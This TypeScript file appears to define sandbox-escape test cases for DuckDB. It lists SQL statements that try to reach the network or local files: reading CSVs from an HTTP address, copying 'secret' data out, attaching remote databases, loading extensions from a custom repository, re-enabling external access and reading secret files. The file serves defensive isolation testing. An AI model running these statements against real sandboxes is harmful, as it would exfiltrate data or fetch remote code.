import type { Addresses } from './channel';

export interface SqlChannel {
  readonly id: string;
  readonly statements: (address: Addresses) => readonly string[];
  /** What the last statement gives when it read something it must not; heard by a listener otherwise. */
  readonly reads?: true;
}

const one = (id: string, statement: (address: Addresses) => string, reads?: true): SqlChannel => ({
  id,
  statements: (address) => [statement(address)],
  ...(reads && { reads }),
});

/** Ways out that SQL might try, each proved in a DuckDB without walls. */
export const sqlChannels: readonly SqlChannel[] = [
  one('sql-read-csv', ({ http }) => `SELECT * FROM read_csv('${http}.csv')`),
  one('sql-read-csv-bare', ({ http }) => `FROM '${http}.csv'`),
  one('sql-read-csv-own-host', ({ own }) => `SELECT * FROM read_csv('${own}.csv')`),
  one('sql-read-csv-list', ({ http }) => `SELECT * FROM read_csv(['${http}.csv', '${http}-2.csv'])`),
  one('sql-sniff-csv', ({ http }) => `SELECT * FROM sniff_csv('${http}.csv')`),
  one('sql-read-text', ({ http }) => `SELECT content FROM read_text('${http}.csv')`),
  one('sql-read-blob', ({ http }) => `SELECT content FROM read_blob('${http}.csv')`),
  one('sql-copy-to', ({ http }) => `COPY (SELECT 'secret' AS a) TO '${http}.csv'`),
  {
    id: 'sql-copy-from',
    statements: ({ http }) => ['CREATE TABLE copied (a INTEGER, b INTEGER)', `COPY copied FROM '${http}.csv' (HEADER)`],
  },
  one('sql-attach', ({ http }) => `ATTACH '${http}.csv' AS other`),
  one('sql-attach-read-only', ({ http }) => `ATTACH '${http}.csv' AS other_read (READ_ONLY)`),
  one('sql-install', ({ http }) => `INSTALL json FROM '${http}'`),
  one('sql-load', ({ http }) => `LOAD '${http}/leak.duckdb_extension.wasm'`),
  {
    id: 'sql-repository',
    statements: ({ http }) => [`SET custom_extension_repository='${http}'`, 'INSTALL json', 'LOAD json'],
  },
  {
    id: 'sql-view',
    statements: ({ http }) => [`CREATE VIEW looks_harmless AS FROM read_csv('${http}.csv')`, 'FROM looks_harmless'],
  },
  {
    id: 'sql-macro',
    statements: ({ http }) => [
      `CREATE MACRO looks_plain() AS TABLE FROM read_csv('${http}.csv')`,
      'FROM looks_plain()',
    ],
  },
  {
    id: 'sql-unlock',
    statements: ({ http }) => ['SET enable_external_access=true', `FROM read_csv('${http}.csv')`],
  },
  {
    id: 'sql-allowed-directories',
    statements: ({ http }) => [`SET allowed_directories=['${http}']`, `FROM read_csv('${http}.csv')`],
  },
  { id: 'sql-pragma', statements: ({ http }) => ['PRAGMA enable_object_cache', `FROM read_csv('${http}.csv')`] },
  one('sql-query-function', ({ http }) => `FROM query('FROM read_csv(''${http}.csv'')')`),
  one(
    'sql-subquery',
    ({ http }) => `WITH a AS (SELECT (SELECT count(*) FROM read_csv('${http}.csv')) AS n) SELECT n FROM a`,
  ),
  one('sql-export', ({ http }) => `EXPORT DATABASE '${http}'`),
  one('sql-import', ({ http }) => `IMPORT DATABASE '${http}'`),
  {
    id: 'sql-write-and-read',
    reads: true,
    statements: () => ["COPY (SELECT 'reached' AS a) TO 'left.csv'", "SELECT a FROM read_csv('left.csv')"],
  },
  one('sql-glob', () => `SELECT 'reached' AS a FROM glob('**') WHERE file LIKE '%secret%'`, true),
  one('sql-other-file', () => `SELECT 'reached' AS a FROM read_text('secret.txt')`, true),
  one(
    'sql-settings',
    () => `SELECT 'reached' AS a WHERE current_setting('enable_external_access')::VARCHAR = 'true'`,
    true,
  ),
];
